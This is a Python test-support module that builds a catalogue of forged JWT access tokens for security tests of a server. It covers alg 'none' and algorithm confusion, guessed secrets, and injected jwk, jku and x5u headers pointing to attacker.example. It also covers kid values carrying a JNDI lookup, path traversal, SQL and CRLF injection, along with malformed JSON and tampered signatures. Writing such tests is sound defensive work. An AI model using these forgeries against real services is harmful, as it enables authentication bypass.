"""Every forged access token that the tests of attacks know, in one place: name → text.

Each breaks one rule. Most are signed with the site's own key (see ``forging``), so that only the
rule refuses them. What a server is asked with them is in ``test_real_server.py``.
"""

from __future__ import annotations

import hashlib
import json
import string
from collections.abc import Iterator, Mapping
from typing import Any, Final

from tests.attacks.forging import MISSING, b64, changed, parts_of, signed, unb64

ALPHABET: Final = string.ascii_uppercase + string.ascii_lowercase + string.digits + "-_"
Named = Iterator[tuple[str, str]]

NOT_ALGORITHMS: Final = ("none", "None", "NONE", "", "none ", "hs256", "HS256 ", "HS1", "dir")
OTHERS: Final = ("HS384", "HS512", "RS256", "PS256", "ES256", "ES384", "ES512", "EdDSA", "Ed25519")
GUESSES: Final = ("", "secret", "password", "changeme", "your-256-bit-secret", "key", "None", "0")
PARAMETERS: Final[tuple[dict[str, Any], ...]] = (
    {"jwk": {"kty": "oct", "k": b64(b"attacker's own key of 32 bytes!!")}},
    {"jku": "https://attacker.example/jwks.json"},
    {"x5u": "https://attacker.example/cert.pem"},
    *({"x5c": ["MIIB"]}, {"x5t": "AAAA"}, {"x5t#S256": "AAAA"}, {"p2c": 2**31}, {"p2s": "AA"}),
    *({"crit": []}, {"crit": ["exp"]}, {"crit": ["b64"], "b64": False}, {"crit": "exp"}),
    *({"crit": ["bork"], "bork": 1}, {"b64": False}, {"b64": True}, {"zip": "DEF"}, {"cty": "JWT"}),
    *(
        {"enc": "A128GCM"},
        {"epk": {}},
        {"nonce": "x"},
        {"": ""},
        {"__proto__": {}},
        {"ALG": "none"},
    ),
)
KIDS: Final = (
    *(MISSING, None, "", 0, 1.5, True, [], {}, "unknown", "../../../../dev/null", "' OR '1'='1"),
    *("%", "*", "key\0", "key\r\nSet-Cookie: a=b", "\x1b[2J", "\u202e", "\ud800", "|/bin/true"),
    *("${jndi:ldap://attacker.example}", "x" * 5000, "https://attacker.example/key"),
)
TYPES: Final = (
    *(MISSING, None, "", "JWT", "AT+JWT", "application/at+jwt", "at+jwt ", "logout+jwt", "rt+jwt"),
    *(1, ["at+jwt"]),
)
TEXTS: Final = ("sub", "sid", "jti")
NUMBERS: Final = ("iat", "exp", "auth_time", "ver", "gen")
NO_TEXTS: Final = (MISSING, None, "", 1, ["x"], {"x": "x"}, "\0", "\ud800", "x" * 256)
NO_NUMBERS: Final = (MISSING, None, "2000000000", 2e9, True, -1, 2**63, 10**300, [1], {"x": 1})
NOT_OBJECTS: Final = (
    b"",
    b"[]",
    b"null",
    b"1",
    b'"x"',
    b"{}",
    b"{",
    b"\xff",
    b"\0",
    b"\xed\xa0\x80",
)
NO_JSON_NUMBERS: Final = {
    **{
        text: text
        for text in ("NaN", "Infinity", "-Infinity", "1e400", "-1e400", "01", "+1", "0x1")
    },
    "4,301 digits": "9" * 4301,
    "5,000 digits": "1" * 5000,
    "an exponent of 4,000 digits": "1e" + "9" * 4000,
}
"""For a name of nobody's: the number itself is what is refused."""
ENCODINGS: Final = ("utf-16", "utf-16-le", "utf-32", "utf-8-sig", "utf-7")
INSIDE: Final = {
    **{f"U+{ord(char):04X}": char for char in "+/.!%|=:é"},
    **{
        f"U+{ord(char):04X}": char
        for char in "\0\t\n\r \x0b\x7f\x85\xa0\xad\u200b\u2028\ufeff\uff21"
    },
}
NESTED: Final = {"lists": ("[", "]"), "objects": ('{"a":', "}")}


def algorithms(token: str) -> Named:
    """RFC 8725 §2.1, §3.1: none, other ones, other names for the right one."""
    head, body = parts_of(token)
    payload, signature = changed(body, {}), token.rpartition(".")[2]
    for alg in NOT_ALGORITHMS:
        unsigned = f"{b64(changed(head, {'alg': alg}))}.{b64(payload)}."
        yield f"alg {alg!r} without a signature", unsigned
        yield f"alg {alg!r} beside a signature", unsigned + signature
        yield f"alg {alg!r} and signed", signed(changed(head, {"alg": alg}), payload)
    for alg in OTHERS:
        yield f"alg {alg} signed by HS256", signed(changed(head, {"alg": alg}), payload)
    for alg in ("HS384", "HS512"):
        yield f"{alg} by the right key", signed(changed(head, {"alg": alg}), payload, alg=alg)
        yield f"{alg} called HS256", signed(changed(head, {}), payload, alg=alg)
    for value in (MISSING, None, True, 256, [], {}, ["HS256"]):
        name = "missing" if value is MISSING else repr(value)
        yield f"alg that is {name}", signed(changed(head, {"alg": value}), payload)


def keys(token: str) -> Named:
    """RFC 8725 §2.2, §3.5, §3.10: guessed, empty, brought along, named."""
    head, body = parts_of(token)
    payload = changed(body, {})
    for guess in GUESSES:
        yield f"the key {guess!r}", signed(changed(head, {}), payload, guess)
    own = b"attacker's own key of 32 bytes!!"
    jwk = {"kty": "oct", "k": b64(own), "kid": head["kid"], "alg": "HS256"}
    yield "a key of its own in jwk", signed(changed(head, {"jwk": jwk}), payload, own)
    yield "its kid as key", signed(changed(head, {}), payload, str(head["kid"]))
    for number, kid in enumerate(KIDS):
        name = "missing" if kid is MISSING else repr(kid)[:30]
        yield f"kid {number}, {name}", signed(changed(head, {"kid": kid}), payload)


def headers(token: str) -> Named:
    """RFC 7515 §4.1.11, RFC 7797, RFC 8725 §3.6, §3.11: what else a header may say."""
    head, body = parts_of(token)
    for parameter in PARAMETERS:
        text = signed(changed(head, parameter), changed(body, {}))
        yield f"header with {json.dumps(parameter)[:60]}", text
    for typ in TYPES:
        name = "missing" if typ is MISSING else repr(typ)
        yield f"typ {name}", signed(changed(head, {"typ": typ}), changed(body, {}))


def claims(token: str) -> Named:
    """RFC 8725 §3.8, §3.9, §3.12: each claim, of each wrong type."""
    head, body = parts_of(token)
    wrong = [
        *((name, value) for name in TEXTS for value in NO_TEXTS),
        *((name, value) for name in NUMBERS for value in NO_NUMBERS),
        *(("token_type", value) for value in (MISSING, None, "refresh", "ACCESS", ["access"])),
        *(
            ("sid", form(body["sid"]))
            for form in (str.upper, "{{{}}}".format, "urn:uuid:{}".format)
        ),
        *(("aud", value) for value in ("another service", ["another service"], "", [])),
        *(("nbf", value) for value in ("x", None, [], 1e308, 2**40, 2**70, True)),
    ]
    for name, value in wrong:
        if value == body.get(name, MISSING):
            continue  # a session's id of digits alone has no capitals
        said = "missing" if value is MISSING else repr(value)[:30]
        yield f"{name} {said}", signed(changed(head, {}), changed(body, {name: value}))


def json_texts(token: str) -> Named:
    """RFC 8725 §2.6, §3.7, RFC 8259: what is no JSON, or is two things to two readers."""
    parts = dict(zip(("header", "payload"), parts_of(token), strict=True))
    for part, values in parts.items():
        for name, data in _wrong_json(values):
            both = {**{key: changed(value, {}) for key, value in parts.items()}, part: data}
            yield f"{part}: {name}", signed(both["header"], both["payload"])


def _wrong_json(values: Mapping[str, Any]) -> Iterator[tuple[str, bytes]]:
    text = json.dumps(values)
    for data in NOT_OBJECTS:
        yield repr(data), data
    for name, number in NO_JSON_NUMBERS.items():
        yield name, f'{text[:-1]}, "own": {number}}}'.encode()
    for encoding in ENCODINGS:
        yield encoding, ("+" + text if encoding == "utf-7" else text).encode(encoding)
    for name in values:
        yield f"{name} twice", f'{text[:-1]}, "{name}": {json.dumps(values[name])}}}'.encode()
    yield "a name twice, once escaped", f'{text[:-1]}, "\\u0061": 1, "a": 2}}'.encode()
    yield "a name twice, deep inside", f'{text[:-1]}, "own": [{{"a": 1, "a": 2}}]}}'.encode()
    for name, (opening, closing) in NESTED.items():
        # One more than may be, what a copy's recursion ends at, what the reader's own ends at.
        for deep in (64, 480, 5_000 // len(opening + closing)):
            nested = f"{opening * deep}1{closing * deep}"
            yield f"{deep} {name}", f'{text[:-1]}, "own": {nested}}}'.encode()
        yield f"{name} opened", (opening * (5_000 // len(opening))).encode()
    for name, junk in {"NUL": "\0", "comma": ",", "itself": text, "comment": "//"}.items():
        yield f"{name} behind it", (text + junk).encode()
        yield f"{name} before it", (junk + text).encode()
    for name, char in {"NUL": "\0", "newline": "\n", "bad escape": "\\x", "half": "\\u12"}.items():
        yield f"a text with {name}", f'{text[:-1]}, "own": "a{char}b"}}'.encode()
    for data in (b"\xff", b"\xc0\x80", b"\xed\xa0\x80", b"\xf4\x90\x80\x80"):
        yield f"a text of {data!r}", text[:-1].encode() + b', "own": "' + data + b'"}'


def spellings(token: str) -> Named:
    """RFC 7515 §2, RFC 4648 §3.5: another text for the very same token, or nearly."""
    segments = token.split(".")
    for at in range(3):
        for padding in ("=", "==", "===="):
            padded = [text + padding * (number == at) for number, text in enumerate(segments)]
            yield f"{padding} behind segment {at}", ".".join(padded)
        without = [text * (number != at) for number, text in enumerate(segments)]
        yield f"segment {at} empty", ".".join(without)
        longer = [text + "A" * (number == at) for number, text in enumerate(segments)]
        yield f"a character more in segment {at}", ".".join(longer)
    for spare in (1, 2, 3):  # 32 bytes leave two bits that say nothing
        yield f"spare bits {spare}", token[:-1] + ALPHABET[ALPHABET.index(token[-1]) ^ spare]
    for name, char in INSIDE.items():
        for at in (1, len(segments[0]) + 20, len(token) - 3):
            yield f"{name} at {at}", token[:at] + char + token[at:]
    for count in (1, 2, 4, 5, 6):
        yield f"{count} segments", ".".join((segments * 2)[:count])
    head, body, signature = segments
    yield (
        "JSON serialization",
        json.dumps({"protected": head, "payload": body, "signature": signature}),
    )
    yield "in quotes", f'"{token}"'
    yield "twice", f"{token},{token}"
    yield "too long by one character", token + "A" * (8193 - len(token))
    yield "60,000 characters", token + "A" * (60_000 - len(token))
    yield "60,000 dots", "." * 60_000
    for junk in (".", "..", "a", "a.b.c", "e30.e30.e30", "null", "undefined", "true", "{}", "-._"):
        yield f"{junk!r} for a token", junk


def signatures(token: str) -> Named:
    """RFC 8725 §3.3: each part of it counts."""
    text, _dot, signature = token.rpartition(".")
    data = unb64(signature)
    other = {
        **{f"cut to {length}": data[:length] for length in (1, 16, 31)},
        **{f"bit {bit} flipped": _flipped(data, bit) for bit in range(0, 256, 37)},
        "of zeros": bytes(32),
        "of ones": b"\xff" * 32,
        "backwards": data[::-1],
        "doubled": data * 2,
        "with a byte more": data + b"\0",
        "that is a bare hash": hashlib.sha256(text.encode()).digest(),
    }
    for name, value in other.items():
        yield f"a signature {name}", f"{text}.{b64(value)}"
    head, body = parts_of(token)
    for name, claim in {"sub": "1", "sid": "x", "ver": 0, "gen": 0, "exp": 2**40}.items():
        payload = b64(changed(body, {name: claim}))
        yield (
            f"{name} changed under its signature",
            f"{b64(changed(head, {}))}.{payload}.{signature}",
        )


def _flipped(data: bytes, bit: int) -> bytes:
    return (int.from_bytes(data, "big") ^ 1 << bit).to_bytes(len(data), "big")


FAMILIES: Final = (algorithms, keys, headers, claims, json_texts, spellings, signatures)


def forgeries(token: str) -> dict[str, str]:
    """Name → text of everything that can be made of a genuine access token; all are ``invalid``."""
    found: dict[str, str] = {}
    for family in FAMILIES:
        for name, text in family(token):
            assert f"{family.__name__}: {name}" not in found, name
            assert text != token, name
            found[f"{family.__name__}: {name}"] = text
    return found
